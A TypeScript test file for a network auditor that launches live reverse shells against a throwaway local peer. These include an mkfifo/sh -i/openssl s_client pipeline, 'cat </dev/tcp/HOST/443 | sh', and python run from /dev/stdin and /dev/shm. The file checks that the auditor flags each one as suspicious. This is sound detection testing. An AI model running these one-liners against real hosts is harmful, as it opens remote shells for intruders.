import { after, before, describe, it } from "node:test";
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { chmodSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { createAuditor } from "../../src/audit/auditor.js";
import type { Socket } from "../../src/model/socket.js";
import { plant, PLANT_MARK, type Planted } from "../helpers/plant.js";
import { createRemotePeer, type RemotePeer } from "../helpers/remote-peer.js";

// Reverse shells that the installed programs on port 443 used to hide (issue 12, "a port lets anything
// through"), live, with the remote end at a documentation address in a network namespace this test makes:
// - the mkfifo pipeline, where no shell holds the socket: sh -i < FIFO 2>&1 | openssl s_client … > FIFO;
// - a connection made by a shell's redirection and handed to cat: cat </dev/tcp/HOST/443 | sh;
// - a program read from a pipe through a path: cat b.py | python3 /dev/stdin;
// - a script dropped in /dev/shm and run by the packaged python3.
// And the nearest benign uses: openssl s_client typed on a terminal (script -qc gives it a pty), the
// packaged python3 running a packaged script (telnetlib's test client) and its own script in /opt.
// Each planted program ends itself (timeout, signal.alarm)
// and is killed by pid afterwards; only connections to this test's own peer are asserted about.

const PY = realpathSync("/usr/bin/python3");
/** A packaged script that connects (the standard library's telnet test client: HOST PORT, then relays stdin). */
const TELNETLIB = `/usr/lib/${PY.slice(PY.lastIndexOf("/") + 1)}/telnetlib.py`;
const auditor = createAuditor();
let peer: RemotePeer;
let dir: string, shm: string;
const planted: Planted[] = [];
let sockets: Socket[] = [];

const rules = (s: Socket) => s.reasons.map((r) => `${r.rule}:${r.verdict}`).join(", ");

/** Python lines that connect to the peer on 443 and wait (at most 30 s). */
const client = (host: string) => ["import socket, time, signal", "signal.alarm(30)", `c = socket.create_connection((${JSON.stringify(host)}, 443), timeout=5)`, "time.sleep(30)", ""].join("\n");

/** Plants `sh -c SCRIPT`, which prints a ready line itself. */
async function sh(script: string): Promise<Planted> {
  const p = await plant(["/bin/bash", "-c", `${script} & echo '{}'; wait`, PLANT_MARK]);
  planted.push(p);
  return p;
}

/** Waits (at most 10 s) until `count` connections to the peer are established (ss, iproute2). */
async function established(count: number): Promise<void> {
  const end = Date.now() + 10_000;
  for (;;) {
    const r = spawnSync("ss", ["-Htn", "state", "established", "dst", peer.address4], { encoding: "utf8", timeout: 5000 });
    if ((r.stdout ?? "").split("\n").filter((l) => l.trim() !== "").length >= count) return;
    if (Date.now() > end) throw new Error(`only ${r.stdout.trim().split("\n").length} of ${count} connections to the peer: ${r.stdout}`);
    await new Promise((ok) => setTimeout(ok, 200));
  }
}

/** The connection to the peer held by a process whose name starts with `name` (python3.11 for python3). */
function held(name: string, cmd?: RegExp): Socket {
  const s = sockets.find((x) => x.remote?.address === peer.address4 && x.state === "ESTABLISHED" && x.process?.name?.startsWith(name) === true && (cmd === undefined || cmd.test(x.process.cmdline?.join(" ") ?? "")));
  assert.ok(s, `${name}'s connection to the peer was not found`);
  return s;
}

describe("reverse shells that no shell holds, on port 443 (live, remote end in a network namespace)", () => {
  before(async () => {
    peer = await createRemotePeer({ tcp: [443], ttlSeconds: 90 });
    dir = mkdtempSync("/opt/pwtest-");
    shm = mkdtempSync("/dev/shm/pwtest-");
    chmodSync(dir, 0o755);
    writeFileSync(join(dir, "b.py"), client(peer.address4));
    writeFileSync(join(shm, "b.py"), client(peer.address4));
    const fifo = join(dir, "f");
    const a = peer.address4;
    await sh(`mkfifo ${fifo}; timeout 30 /bin/sh -i < ${fifo} 2>&1 | timeout 30 openssl s_client -quiet -connect ${a}:443 > ${fifo}`);
    await sh(`timeout 30 bash -c 'cat < /dev/tcp/${a}/443 | sh'`);
    await sh(`cat ${join(dir, "b.py")} | ${PY} /dev/stdin`);
    await sh(`${PY} ${join(shm, "b.py")}`);
    await sh(`timeout 30 script -qc 'openssl s_client -connect ${a}:443' /dev/null`);
    await sh(`${PY} ${join(dir, "b.py")}`);
    await sh(`timeout 30 ${PY} ${TELNETLIB} ${a} 443 <&0`);
    await established(7);
    sockets = (await auditor.lookAtHost({})).sockets;
  });
  after(async () => {
    // the pipelines' own programs end by themselves (timeout 30, signal.alarm(30)); the shells are killed by pid
    for (const p of planted) await p.stop();
    peer?.close();
    for (const d of [dir, shm]) if (d) rmSync(d, { recursive: true, force: true });
  });

  it("openssl s_client with no terminal, in a mkfifo pipeline with sh -i, is suspicious (stream-client), not an ordinary web connection", () => {
    const s = held("openssl", /-quiet/);
    assert.equal(s.verdict, "suspicious", rules(s));
    assert.ok(s.reasons.some((r) => r.rule === "stream-client" && /has no terminal/.test(r.message)), rules(s));
    assert.ok(!s.reasons.some((r) => r.verdict === "expected"), rules(s));
  });

  it("openssl s_client typed on a terminal (script -qc gives it a pty) is unknown: neither expected nor suspicious", () => {
    const s = held("openssl", /^openssl s_client -connect/);
    assert.match(s.process?.tty ?? "", /^pts\/\d+$/);
    assert.equal(s.verdict, "unknown", rules(s));
    assert.ok(s.reasons.some((r) => r.rule === "stream-client"), rules(s));
  });

  it("cat holding a connection a shell's /dev/tcp redirection made (cat </dev/tcp/HOST/443 | sh) is suspicious (handed-connection)", () => {
    const s = held("cat");
    assert.equal(s.verdict, "suspicious", rules(s));
    assert.ok(s.reasons.some((r) => r.rule === "handed-connection"), rules(s));
  });

  it("python3 reading its program through /dev/stdin (cat b.py | python3 /dev/stdin) is suspicious (shell-socket)", () => {
    const s = held("python3", /\/dev\/stdin/);
    assert.equal(s.verdict, "suspicious", rules(s));
    assert.ok(s.reasons.some((r) => r.rule === "shell-socket" && /python3[\d.]* \/dev\/stdin/.test(r.message)), rules(s));
  });

  it("the packaged python3 running a script from /dev/shm is suspicious (writable-dir-exe); from /opt (where an administrator installs programs) and a packaged script (telnetlib), an installed program's web connection", () => {
    const s = held("python3", /\/dev\/shm\//);
    assert.equal(s.verdict, "suspicious", rules(s));
    assert.ok(s.reasons.some((r) => r.rule === "writable-dir-exe" && /the script \/dev\/shm\//.test(r.message)), rules(s));
    const t = held("python3", new RegExp(`${dir}/b\\.py`));
    assert.equal(t.verdict, "expected", rules(t));
    assert.ok(t.reasons.some((r) => r.rule === "usual-outbound"), rules(t));
    const u = held("python3", /telnetlib\.py/);
    assert.equal(u.verdict, "expected", rules(u));
    assert.ok(u.reasons.some((r) => r.rule === "usual-outbound"), rules(u));
  });
});
